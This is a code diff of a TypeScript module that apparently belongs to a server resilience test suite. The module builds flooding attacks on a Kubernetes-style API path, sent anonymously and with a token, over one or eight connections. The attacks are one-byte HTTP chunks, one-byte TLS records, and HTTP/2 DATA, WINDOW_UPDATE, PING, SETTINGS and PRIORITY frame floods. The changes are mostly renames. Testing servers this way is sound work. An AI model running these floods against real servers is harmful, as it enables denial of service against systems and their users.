@@ -1,32 +1,32 @@
-// Bytes that come in the smallest parts there are: chunks, records and frames of one byte, on one connection and on many at once.
+// Chunks, TLS records and HTTP/2 frames of one byte, on one connection and on many.
 
 import { sleep } from '../kit/fixtures.js'
-import { HeldSocket } from '../kit/held-socket.js'
-import { frame, headerBlock } from '../kit/raw-http2.js'
+import { BufferedTlsSocket } from '../kit/network/buffered-tls-socket.js'
+import { frame, headerBlock } from '../kit/network/raw-http2.js'
 import { listOf } from '../linear/shape.js'
 import type { Attack, Outcome, Target } from './attack.js'
 
 const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
-/** How long what was sent is worked on at most. */
+/** Maximum time for the server to process the bytes. */
 const workMs = 700
 
 interface Flood {
   readonly protocol: 'http/1.1' | 'h2'
-  /** Sent before, as usual. */
+  /** Sent before the measurement. */
   readonly opening: string | Buffer
   readonly records: readonly (string | Buffer)[]
 }
 
-/** What is needed of it is made in advance, so that all of it is there at once. */
+/** Prepared in advance, so that everything is sent at once. */
 async function flood({ server }: Target, connections: number, { protocol, opening, records }: Flood): Promise<Outcome> {
-  const sockets = await Promise.all(listOf(connections, () => HeldSocket.open(server.access, protocol)))
+  const sockets = await Promise.all(listOf(connections, () => BufferedTlsSocket.open(server.access, protocol)))
   for (const socket of sockets) {
     await socket.writeRecord(opening)
-    socket.hold()
+    socket.startBuffering()
     for (const record of records) await socket.writeRecord(record)
   }
   await sleep(100)
-  for (const socket of sockets) socket.release()
+  for (const socket of sockets) socket.flush()
   await sleep(workMs)
   for (const socket of sockets) socket.close()
   return { status: 200, bytes: 0 }
@@ -35,7 +35,7 @@ async function flood({ server }: Target, connections: number, { protocol, openin
 const path = '/api/v1/namespaces/default/configmaps'
 const authorization = (token?: string): string => (token === undefined ? '' : `Authorization: Bearer ${token}\r\n`)
 const postHead = (token?: string): string => `POST ${path} HTTP/1.1\r\nHost: x\r\n${authorization(token)}Content-Type: application/json\r\n`
-const bytes = (count: number, of = ' '): string[] => Array.from({ length: count }, () => of)
+const bytes = (count: number, character = ' '): string[] => Array.from({ length: count }, () => character)
 
 const h2Head = (token?: string): Buffer =>
   Buffer.concat([
@@ -55,16 +55,16 @@ const h2Head = (token?: string): Buffer =>
     ),
   ])
 
-type Make = (token: string | undefined) => Flood
+type MakeFlood = (token: string | undefined) => Flood
 
-const many = (bytes: Buffer, times: number, records: number): readonly Buffer[] =>
+const repeatedRecords = (bytes: Buffer, times: number, records: number): readonly Buffer[] =>
   listOf(records, () => Buffer.concat(listOf(times, () => bytes)))
 
-const kinds: Readonly<Record<string, Make>> = {
+const floods: Readonly<Record<string, MakeFlood>> = {
   'chunks of one byte': (token) => ({
     protocol: 'http/1.1',
     opening: `${postHead(token)}Transfer-Encoding: chunked\r\n\r\n`,
-    records: many(Buffer.from('1\r\n \r\n'), 5000, 20),
+    records: repeatedRecords(Buffer.from('1\r\n \r\n'), 5000, 20),
   }),
   'records of one byte': (token) => ({
     protocol: 'http/1.1',
@@ -80,12 +80,12 @@ const kinds: Readonly<Record<string, Make>> = {
   'frames of one byte': (token) => ({
     protocol: 'h2',
     opening: h2Head(token),
-    records: many(frame(0, 0, 1, Buffer.from(' ')), 20_000, 10),
+    records: repeatedRecords(frame(0, 0, 1, Buffer.from(' ')), 20_000, 10),
   }),
   'empty frames': (token) => ({
     protocol: 'h2',
     opening: h2Head(token),
-    records: many(frame(0, 0, 1), 20_000, 10),
+    records: repeatedRecords(frame(0, 0, 1), 20_000, 10),
   }),
   'HTTP/2 records of one byte': (token) => ({
     protocol: 'h2',
@@ -95,17 +95,17 @@ const kinds: Readonly<Record<string, Make>> = {
   WINDOW_UPDATE: () => ({
     protocol: 'h2',
     opening: h2Head(),
-    records: many(frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), 10_000, 20),
+    records: repeatedRecords(frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), 10_000, 20),
   }),
   PING: () => ({
     protocol: 'h2',
     opening: h2Head(),
-    records: many(frame(6, 0, 0, Buffer.alloc(8)), 10_000, 20),
+    records: repeatedRecords(frame(6, 0, 0, Buffer.alloc(8)), 10_000, 20),
   }),
   SETTINGS: () => ({
     protocol: 'h2',
     opening: h2Head(),
-    records: many(frame(4, 0, 0), 10_000, 20),
+    records: repeatedRecords(frame(4, 0, 0), 10_000, 20),
   }),
   PRIORITY: () => ({
     protocol: 'h2',
@@ -129,13 +129,14 @@ const kinds: Readonly<Record<string, Make>> = {
   }),
 }
 
-const attackOf = (name: string, make: Make, connections: number, isKnown: boolean): Attack => ({
+const attackOf = (name: string, make: MakeFlood, connections: number, isAuthenticated: boolean): Attack => ({
   finding: 9,
-  name: `${name}, ${connections} connections, ${isKnown ? 'known' : 'anonymous'}`,
-  run: (target) => flood(target, connections, make(isKnown ? target.server.access.token : undefined)),
+  limit: isAuthenticated ? 'request' : 'flood',
+  name: `${name}, ${connections} connections, ${isAuthenticated ? 'authenticated' : 'anonymous'}`,
+  run: (target) => flood(target, connections, make(isAuthenticated ? target.server.access.token : undefined)),
 })
 
-export const partAttacks: readonly Attack[] = Object.entries(kinds).flatMap(([name, make]) => [
+export const smallChunkAttacks: readonly Attack[] = Object.entries(floods).flatMap(([name, make]) => [
   attackOf(name, make, 1, true),
   attackOf(name, make, 8, false),
 ])
